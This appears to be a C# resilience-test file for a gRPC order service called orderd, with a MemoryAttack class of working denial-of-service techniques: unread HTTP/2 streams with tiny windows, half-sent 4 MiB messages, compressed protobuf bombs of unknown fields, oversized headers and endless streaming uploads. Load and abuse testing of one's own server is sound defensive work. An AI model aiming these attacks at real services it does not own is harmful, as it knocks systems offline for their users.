using System.IO.Compression;
using System.Net;
using Google.Protobuf;
using Google.Protobuf.WellKnownTypes;
using Grpc.Core;
using Grpc.Net.Client;
using Orderd.Contracts.Ecommerce;
using Orderd.Contracts.Routeguide;
using Orderd.Tests.Servers;

namespace Orderd.Tests.Attacks;

/// <summary>Ways to have orderd keep as much as possible in memory: each goes on until its token falls.</summary>
static class MemoryAttack
{
    const string Package = "/ecommerce.OrderManagement/";
    const int PerConnection = 100;
    const int NoteBytes = 16 * 1024;
    static readonly TimeSpan Round = TimeSpan.FromSeconds(5);

    /// <summary>Asks for a large order, or many, and leaves the answers where they are.</summary>
    public static void Unread(int port, string method, string text, int calls, bool isDeaf, CancellationToken end) => InRounds(
        () => [.. Enumerable.Range(0, calls / PerConnection).Select(_ => UnreadConnection(port, method, text, isDeaf))], end);

    /// <summary>Begins messages of 4 MiB and sends them but for the last byte, with a deadline in a year.</summary>
    public static async Task UnfinishedAsync(Uri address, int calls, CancellationToken end)
    {
        using var client = new HttpClient(new SocketsHttpHandler { EnableMultipleHttp2Connections = true }) { Timeout = Timeout.InfiniteTimeSpan };
        await Task.WhenAll(Enumerable.Range(0, calls).Select(async _ =>
        {
            while (!end.IsCancellationRequested)
            {
                using var request = new HttpRequestMessage(HttpMethod.Post, new Uri(address, Package + "addOrder"))
                {
                    Version = HttpVersion.Version20,
                    VersionPolicy = HttpVersionPolicy.RequestVersionExact,
                    Content = new UnfinishedContent(end) { Headers = { ContentType = new("application/grpc") } },
                };
                request.Headers.Add("te", "trailers");
                request.Headers.Add("grpc-timeout", "99999999S");
                await EndOf(client.SendAsync(request, HttpCompletionOption.ResponseContentRead, end), end);
            }
        }));
    }

    /// <summary>Sends orders of 4 MiB that are all items of one letter.</summary>
    public static Task ManyFieldsAsync(Uri address, int calls, CancellationToken end)
    {
        const int Items = 1_300_000;
        var order = new Order { Items = { Enumerable.Repeat("x", Items) } };
        return RepeatAsync(
            address, calls, async channel => await new OrderManagement.OrderManagementClient(channel).addOrderAsync(order, cancellationToken: end), end);
    }

    /// <summary>
    /// Begins streams with one short message each, which has many fields that nobody knows: 2,000, or compressed as many as fit into
    /// 4 MiB. The stream keeps what was made of it until the next message, which does not come.
    /// </summary>
    public static void Fields(int port, int streams, bool isCompressed, CancellationToken end)
    {
        var message = isCompressed ? Gzip.Pack(UnknownFields(2_000_000), CompressionLevel.SmallestSize) : UnknownFields(2_000);
        Hold(port, streams, Package + "processOrders", message, isCompressed, end);
    }

    /// <summary>Likewise, but they are fields of a message in the message.</summary>
    public static void NestedFields(int port, int streams, CancellationToken end)
    {
        var fields = UnknownFields(2_000);
        // A RouteNote whose location has them: field 1, and a length of 4,000 in two bytes.
        Hold(port, streams, "/routeguide.RouteGuide/RouteChat", [10, 0xa0, 0x1f, .. fields], isCompressed: false, end);
    }

    /// <summary>
    /// Begins calls of a method that there is not, with as large headers as may be, and does not end their requests: each is answered
    /// at once, and over for everybody but HTTP/2.
    /// </summary>
    public static void LargeHeaders(int port, int connections, CancellationToken end) => InRounds(
        () => [.. Enumerable.Range(0, connections).Select(_ =>
        {
            var connection = HostileConnection.Open(port);
            var value = new string('x', 15_000);
            for (var i = 0; i < PerConnection && connection is not null; i++)
            {
                if (!connection.Send(Http2Frame.HeadersWith((2 * i) + 1, Package + "none", ("authorization", value))) || !connection.Drain())
                    break;
            }

            return connection;
        })],
        end);

    /// <summary>Leaves notes in chats, each at a place of its own.</summary>
    public static Task ChatsAsync(Uri address, int chats, CancellationToken end) => RepeatAsync(address, chats, async channel =>
    {
        using var chat = new RouteGuide.RouteGuideClient(channel).RouteChat(cancellationToken: end);
        for (var i = 0; i < 1_000; i++)
            await chat.RequestStream.WriteAsync(new RouteNote { Location = new Point { Latitude = i }, Message = new string('x', NoteBytes) }, end);
        await Task.Delay(Timeout.Infinite, end);
    }, end);

    /// <summary>Sends orders in streams that do not end.</summary>
    public static Task UploadsAsync(Uri address, int uploads, CancellationToken end) => RepeatAsync(address, uploads, async channel =>
    {
        using var upload = new OrderManagement.OrderManagementClient(channel).updateOrders(cancellationToken: end);
        var order = new Order { Id = "upload", Items = { Enumerable.Repeat(new string('x', 1_000), 100) } };
        for (var i = 0; i < 500; i++)
            await upload.RequestStream.WriteAsync(order, end);
        await Task.Delay(Timeout.Infinite, end);
    }, end);

    static async Task RepeatAsync(Uri address, int calls, Func<GrpcChannel, Task> call, CancellationToken end)
    {
        using var channel = GrpcChannel.ForAddress(address, new GrpcChannelOptions
        {
            HttpHandler = new SocketsHttpHandler { EnableMultipleHttp2Connections = true },
            DisposeHttpClient = true,
        });
        await Task.WhenAll(Enumerable.Range(0, calls).Select(async _ =>
        {
            while (!end.IsCancellationRequested)
                await EndOf(call(channel), end);
        }));
    }

    // Whatever orderd says to it is all right; who is refused does not try again at full speed.
    static async Task EndOf(Task attack, CancellationToken end)
    {
        try
        {
            await attack;
        }
        catch (Exception e) when (e is RpcException or HttpRequestException or IOException or OperationCanceledException or InvalidOperationException)
        {
            // Refused, cut, or over.
        }

        await Task.Delay(TimeSpan.FromSeconds(1), end).ConfigureAwait(ConfigureAwaitOptions.SuppressThrowing);
    }

    static void Hold(int port, int streams, string method, byte[] message, bool isCompressed, CancellationToken end) => InRounds(
        () => [.. Enumerable.Range(0, streams / PerConnection).Select(_ =>
        {
            var connection = HostileConnection.Open(port);
            for (var i = 0; i < PerConnection && connection is not null; i++)
            {
                var stream = (2 * i) + 1;
                var headers = isCompressed ? Http2Frame.HeadersWith(stream, method, ("grpc-encoding", "gzip")) : Http2Frame.Headers(stream, method);
                if (!connection.Send([.. headers, .. Http2Frame.Message(stream, message, endStream: false, isCompressed)]) || !connection.Drain())
                    break;
            }

            return connection;
        })],
        end);

    // Field 15, the number 0.
    static byte[] UnknownFields(int count)
    {
        var fields = new byte[2 * count];
        for (var i = 0; i < fields.Length; i += 2)
            fields[i] = 15 << 3;
        return fields;
    }

    static void InRounds(Func<List<HostileConnection?>> open, CancellationToken end)
    {
        while (!end.IsCancellationRequested)
        {
            var connections = open();
            end.WaitHandle.WaitOne(Round);
            connections.ForEach(connection => connection?.Dispose());
        }
    }

    // One does not read its socket at all, the other reads, and gives HTTP/2 no more window than there is at first.
    static HostileConnection? UnreadConnection(int port, string method, string text, bool isDeaf)
    {
        var connection = HostileConnection.Open(port, isDeaf ? [.. Http2Frame.WidestStreams, .. Http2Frame.WidestConnection] : null, 4_096);
        var query = new StringValue { Value = text }.ToByteArray();
        for (var i = 0; i < PerConnection && connection is not null; i++)
        {
            var stream = (2 * i) + 1;
            var frames = new List<byte>(Http2Frame.Headers(stream, Package + method));
            if (method == "processOrders")
            {
                for (var id = 0; id < 20; id++)
                    frames.AddRange(Http2Frame.Message(stream, query, endStream: false));
            }
            else
            {
                frames.AddRange(Http2Frame.Message(stream, query, endStream: true));
            }

            if (!connection.Send(frames.ToArray()) || (!isDeaf && !connection.Drain()))
                break;
        }

        return connection;
    }

    sealed class UnfinishedContent(CancellationToken end) : HttpContent
    {
        protected override async Task SerializeToStreamAsync(Stream stream, TransportContext? context)
        {
            const int Size = 4 * 1024 * 1024;
            await stream.WriteAsync(new byte[] { 0, Size >> 24, Size >> 16 & 0xff, Size >> 8 & 0xff, Size & 0xff }, end);
            await stream.WriteAsync(new byte[Size - 1], end);
            await stream.FlushAsync(end);
            await Task.Delay(Timeout.Infinite, end);
        }

        protected override bool TryComputeLength(out long length)
        {
            length = 0;
            return false;
        }
    }
}
